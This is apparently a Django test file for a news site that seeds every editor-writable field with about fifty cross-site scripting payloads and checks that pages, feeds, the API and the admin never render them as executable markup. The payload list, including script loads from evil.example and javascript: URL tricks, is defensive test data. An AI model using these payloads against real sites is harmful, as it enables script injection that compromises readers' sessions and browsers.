"""No script runs: hostile text in every field an editor can write never reaches a page, a feed,
a JSON-LD block or the API as executable markup, and JSON-LD still says exactly what was written.

Pages are parsed as a browser would (html5lib); what counts as executable is a <script> other
than JSON-LD, an `on…` attribute, a `javascript:`-like URL, inline style, or an element that
embeds or scripts (svg, iframe, object, base…).
"""

import json
import re
import xml.etree.ElementTree as ElementTree
from collections import Counter
from urllib.parse import urlencode

import html5lib
import pytest
from django.db import transaction
from django.utils.html import escape

from tests.factories import (
    AgencyFactory,
    AgreementFactory,
    ArticleFactory,
    CorrectionFactory,
    CountryFactory,
    EventFactory,
    ImageFactory,
    OrganizationFactory,
    PersonFactory,
    PlaceFactory,
    PositionFactory,
    QuoteFactory,
    SectionFactory,
)
from tests.signing_in import sign_in

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "<!--<script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a href=# onclick=alert(1)>x</a>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "'\"><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<table background=javascript:alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
]
assert len(PAYLOADS) >= 40

SCRIPTING_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "svg",
    "math",
    "style",
    "marquee",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "srcdoc",
    "lowsrc",
    "dynsrc",
    "content",
}
DANGEROUS_SCHEME = re.compile(r"^(?:javascript|vbscript|livescript|data:text/html)", re.I)
INVISIBLE = re.compile(r"[\x00-\x20]")  # browsers ignore these inside a URL's scheme


def chunks(payloads, limit):
    """The payloads packed into strings of at most `limit` characters, in order."""
    packed, current = [], ""
    for payload in payloads:
        if current and len(current) + 1 + len(payload) > limit:
            packed.append(current)
            current = ""
        current = f"{current} {payload}" if current else payload
    packed.append(current)
    return packed


CHUNKS = chunks(PAYLOADS, 240)


def executable_markup(html):
    """What in `html` a browser would run: [description, …]; [] when nothing would."""
    problems = []
    document = html5lib.parse(html, namespaceHTMLElements=False)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag == "script" and element.get("type") != "application/ld+json":
            # The nonce changes with every response; what the script is and says does not.
            attributes = {name: value for name, value in element.attrib.items() if name != "nonce"}
            problems.append(f"<script> {attributes} {element.text or ''}")
        if tag in SCRIPTING_ELEMENTS:
            problems.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        for raw_name, value in element.attrib.items():
            name = raw_name.rsplit("}", 1)[-1].lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…>")
            if name == "style":
                problems.append(f"<{tag} style=…>")
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(INVISIBLE.sub("", value)):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


def json_ld_blocks(html):
    document = html5lib.parse(html, namespaceHTMLElements=False)
    return [
        json.loads(element.text or "")  # must parse: a payload may not break out of it
        for element in document.iter("script")
        if element.get("type") == "application/ld+json"
    ]


def build_world(text):
    """One of everything an editor writes, every text field holding `text` (cut to fit)."""
    short = text[:100]  # section and country names
    country = CountryFactory(name=short)
    organization = OrganizationFactory(name=text, short_name=text[:50], description=text)
    place = PlaceFactory(name=text, country=country)
    person = PersonFactory(name=text, aliases=f"{text}\nAlias {text}", bio=text, country=country)
    PositionFactory(person=person, title=text, organization=organization, country=country)
    event = EventFactory(title=text, summary=text, place=place, organization=organization)
    agreement = AgreementFactory(title=text, short_title=text, summary=text, adopted_at=event)
    section = SectionFactory(name=short, description=text)
    story = ArticleFactory(
        headline=text,
        summary=text,
        # The payload as markup, and again as text (which the mention linker may link).
        body=f"{text}<p>{escape(text)}</p>",
        bylines=text,
        section=section,
        agency=AgencyFactory(name=text, short_name=text[:30]),
        dateline_place=place,
        lead_image=ImageFactory(alt_text=text, caption=text, credit=text),
    )
    story.people.add(person)
    story.events.add(event)
    story.agreements.add(agreement)
    story.places.add(place)
    story.organizations.add(organization)
    story.related_articles.add(ArticleFactory(headline=text, summary=text, section=section))
    CorrectionFactory(article=story, text=text)
    QuoteFactory(article=story, speaker=person, event=event, text=text, evidence=text)
    QuoteFactory(article=story, speaker=None, speaker_name=text, text=text)
    return locals()


def page_paths(world):
    return {
        "front page": "/",
        "story page": world["story"].get_absolute_url(),
        "section page": world["section"].get_absolute_url(),
        "person page": world["person"].get_absolute_url(),
        "people list": "/people/",
        "event page": world["event"].get_absolute_url(),
        "event list": "/events/",
        "agreement page": world["agreement"].get_absolute_url(),
        "agreement list": "/agreements/",
        "place page": world["place"].get_absolute_url(),
        "country page": world["country"].get_absolute_url(),
        "organization page": world["organization"].get_absolute_url(),
        "archive": "/archive/",
        "search": "/search/?q=alert",
        # The query comes back on the page: in the search box and the results' heading.
        "search for the payload": f"/search/?{urlencode({'q': world['text']})}",
        "search for nothing found": f"/search/?{urlencode({'q': world['text'] + ' zzzq'})}",
    }


@pytest.mark.parametrize("text", CHUNKS, ids=[f"payloads-{n}" for n in range(len(CHUNKS))])
def test_hostile_text_never_becomes_executable_markup(client, text):
    world = build_world(text)
    for name, path in page_paths(world).items():
        response = client.get(path)
        assert response.status_code == 200, (name, response.status_code)
        html = response.content.decode()
        assert executable_markup(html) == [], name
        json_ld_blocks(html)  # each one parses

    story_data = next(
        block
        for block in json_ld_blocks(client.get(world["story"].get_absolute_url()).text)
        if block.get("@type") == "NewsArticle"
    )
    story = world["story"]
    assert story_data["headline"] == story.headline
    assert story_data["description"] == story.summary
    assert story_data["articleSection"] == world["section"].name
    assert story_data["correction"][0]["text"] == text
    assert story_data["about"][0]["name"] == world["person"].name
    profile = next(
        block
        for block in json_ld_blocks(client.get(world["person"].get_absolute_url()).text)
        if block.get("@type") == "ProfilePage"
    )
    assert profile["mainEntity"]["name"] == text
    assert profile["mainEntity"]["description"] == text


@pytest.mark.parametrize("text", CHUNKS, ids=[f"payloads-{n}" for n in range(len(CHUNKS))])
def test_hostile_text_in_feeds_is_never_markup_a_reader_would_run(client, text):
    world = build_world(text)
    feeds = [
        "/feeds/",
        "/feeds/atom/",
        f"/feeds/sections/{world['section'].slug}/",
        f"/feeds/sections/{world['section'].slug}/atom/",
        f"/feeds/people/{world['person'].slug}/",
        f"/feeds/people/{world['person'].slug}/atom/",
    ]
    atom = "{http://www.w3.org/2005/Atom}"
    for path in feeds:
        response = client.get(path)
        assert response.status_code == 200, path
        root = ElementTree.fromstring(response.content)  # well-formed whatever the text
        # What a feed reader renders as HTML: RSS item descriptions, Atom html text constructs.
        html_parts = [element.text or "" for element in root.iter("description")]
        html_parts += [
            element.text or ""
            for element in root.iter()
            if element.tag.startswith(atom) and element.get("type") in ("html", "xhtml")
        ]
        titles = [
            element.text for element in root.iter() if element.tag in ("title", atom + "title")
        ]
        assert text in titles, path  # plain text, said as written
        for part in html_parts:
            assert executable_markup(part) == [], (path, part)


@pytest.mark.parametrize("text", CHUNKS, ids=[f"payloads-{n}" for n in range(len(CHUNKS))])
def test_hostile_text_in_the_api_is_data_and_the_body_is_safe_html(client, text):
    world = build_world(text)
    story = world["story"]
    paths = {
        "story": f"/api/articles/{story.slug}/",
        "ninjs": f"/api/articles/{story.slug}/ninjs/",
        "stories": "/api/articles/",
        "person": f"/api/people/{world['person'].slug}/",
        "event": f"/api/events/{world['event'].slug}/",
        "agreement": f"/api/agreements/{world['agreement'].slug}/",
        "place": f"/api/places/{world['place'].slug}/",
        "organization": f"/api/organizations/{world['organization'].slug}/",
        "section": f"/api/sections/{world['section'].slug}/",
    }
    for name, path in paths.items():
        response = client.get(path)
        assert response.status_code == 200, (name, response.content)
        assert response["Content-Type"].startswith("application/json"), name
        response.json()
    item = client.get(paths["story"]).json()
    assert item["headline"] == text
    assert item["summary"] == text
    assert executable_markup(item["body"]) == []
    ninjs = client.get(paths["ninjs"]).json()
    assert executable_markup(ninjs.get("body_html", "")) == []
    assert client.get(paths["person"]).json()["name"] == text


DESK_BASELINE = []  # filled once per process: the admin's markup is the same in every test


def desk_paths(world):
    from django.urls import reverse

    story, person = world["story"], world["person"]
    return [
        reverse("admin:articles_article_changelist"),
        reverse("admin:articles_article_change", args=[story.pk]),
        reverse("admin:articles_article_revisions", args=[story.pk]),
        reverse("admin:articles_article_revision", args=[story.pk, 1]),
        reverse("admin:articles_quote_changelist"),
        reverse("admin:articles_correction_changelist"),
        reverse("admin:events_person_changelist"),
        reverse("admin:events_person_change", args=[person.pk]),
    ]


def desk_pages_markup(client, text):
    """[Counter of executable markup, …] of the desk's pages about a world written in `text`;
    the story is edited once, so it has a diff to show."""
    world = build_world(text)
    world["story"].headline = f"{text} (edited)"
    world["story"].save()
    pages = []
    for path in desk_paths(world):
        response = client.get(path)
        assert response.status_code == 200, path
        pages.append(Counter(executable_markup(response.content.decode())))
    return pages


@pytest.mark.parametrize("text", CHUNKS, ids=[f"payloads-{n}" for n in range(len(CHUNKS))])
def test_hostile_text_adds_no_executable_markup_to_the_desks_pages(client, text):
    from tests.factories import EditorFactory

    sign_in(client, EditorFactory())
    # The admin's own scripts and icons, found on the same pages about harmless words.
    if not DESK_BASELINE:
        with transaction.atomic():
            DESK_BASELINE.extend(desk_pages_markup(client, "Plain words"))
            transaction.set_rollback(True)
    hostile = desk_pages_markup(client, text)
    for path_number, (plain, attacked) in enumerate(zip(DESK_BASELINE, hostile, strict=True)):
        assert attacked - plain == Counter(), f"page {path_number}: {attacked - plain}"
